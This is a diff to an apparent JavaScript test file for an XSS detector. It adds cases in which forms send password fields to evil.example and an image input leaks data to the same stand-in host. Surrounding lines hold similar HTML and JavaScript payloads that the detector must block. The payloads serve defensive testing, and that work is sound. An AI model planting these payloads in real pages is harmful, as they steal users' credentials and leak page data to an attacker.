@@ -9,6 +9,7 @@ test('a button that sends a form elsewhere, a link that tells who followed it an
     '<input type=image formaction=https://evil.example src=x>',
     '<a ping=//evil.example href=#>x</a>',
     "<img src='//evil.example/log?",
+    "<input type=image src='//evil.example/log?",
     'see <img src="https://evil.example/?c=',
   ]);
   passes(detectXss, [
@@ -35,4 +36,16 @@ test('`of` joins nothing but what a loop goes over, so that a sentence is no cal
 test('a name between brackets is handed to nobody', () => {
   blocks(detectXss, ['(alert)(1)', '[1].find(alert)', 'x=(alert),x(1)', "'-(alert)`1`-'"]);
   passes(detectXss, ['(alert)', '(eval)', '(confirm)']);
+});
+
+test('a password that a form sends elsewhere is an attack', () => {
+  blocks(detectXss, [
+    '<form action=//evil.example><input name=u><input type=password name=p>',
+    '<form id=f action="https://evil.example/l"></form><input form=f type=PASSWORD>',
+  ]);
+  passes(detectXss, [
+    '<form action="/login"><input type="password" name="p"></form>',
+    '<form action="https://pay.example/"><input type="hidden" name="cmd"></form>',
+    'Here is the sign-in form that we put on the page of our shop: <form action="https://id.example/"><input type="password"></form>',
+  ]);
 });
